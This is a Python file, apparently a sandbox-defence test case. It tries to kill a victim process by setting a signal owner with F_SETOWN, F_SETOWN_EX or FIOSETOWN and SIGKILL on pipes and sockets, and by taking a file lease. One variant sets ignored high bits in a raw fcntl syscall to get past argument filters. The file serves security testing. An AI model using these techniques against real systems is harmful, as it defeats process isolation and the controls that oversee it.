"""Kills another process by a pipe whose news come as a signal.

Of what can be asked of a descriptor only the questions about it and its copies are let through: nobody can be made the
owner of one, and no signal chosen. Newer kernels' Landlock lets no such signal out.
"""
# row: 69b
# defence: X, N, L
# meets: tier 3 EPERM; tier 2 EPERM; tier 1 reached

import fcntl
import os
import signal
import time

F_SETSIG, O_ASYNC = 10, 0o20000


def dies(pid):
    for _ in range(100):
        with open(f"/proc/{pid}/stat") as file:
            if file.read().rsplit(")", 1)[1].split()[0] in "ZX":
                return True
        time.sleep(0.001)
    return False


# --- F_SETOWN


def attempt():
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, VICTIM)
    fcntl.fcntl(read, F_SETSIG, int(signal.SIGKILL))
    fcntl.fcntl(read, fcntl.F_SETFL, O_ASYNC)
    os.write(write, b"x")
    return dies(VICTIM)


# --- F_SETOWN_EX
# slow: yes

import struct

F_SETOWN_EX, OF_A_PROCESS = 15, 1


def attempt():
    read, write = os.pipe()
    fcntl.fcntl(read, F_SETOWN_EX, struct.pack("=ii", OF_A_PROCESS, VICTIM))
    fcntl.fcntl(read, F_SETSIG, int(signal.SIGKILL))
    fcntl.fcntl(read, fcntl.F_SETFL, O_ASYNC)
    os.write(write, b"x")
    return dies(VICTIM)


# --- with bits that the kernel ignores
# slow: yes

import ctypes

FCNTL = {"x86_64": 72, "aarch64": 25}[os.uname().machine]
libc = ctypes.CDLL(None, use_errno=True)


def ask(fd, command, argument):
    if libc.syscall(FCNTL, fd, ctypes.c_long(command | 1 << 32), argument) < 0:
        raise OSError(ctypes.get_errno(), "fcntl")


def attempt():
    read, write = os.pipe()
    ask(read, fcntl.F_SETOWN, VICTIM)
    ask(read, F_SETSIG, int(signal.SIGKILL))
    fcntl.fcntl(read, fcntl.F_SETFL, O_ASYNC)
    os.write(write, b"x")
    return dies(VICTIM)


# --- a socket that has an owner
# slow: yes

import socket
import struct

FIOSETOWN = 0x8901


def attempt():
    read, write = socket.socketpair()
    fcntl.ioctl(read, FIOSETOWN, struct.pack("=i", VICTIM))
    fcntl.fcntl(read, F_SETSIG, int(signal.SIGKILL))
    fcntl.fcntl(read, fcntl.F_SETFL, O_ASYNC)
    write.send(b"x")
    return dies(VICTIM)


# --- a lease, whose end is told
# slow: yes

F_SETLEASE = 1024


def attempt():
    with open("own", "w"):
        pass
    fcntl.fcntl(os.open("own", os.O_RDONLY), F_SETLEASE, fcntl.F_RDLCK)
    return True
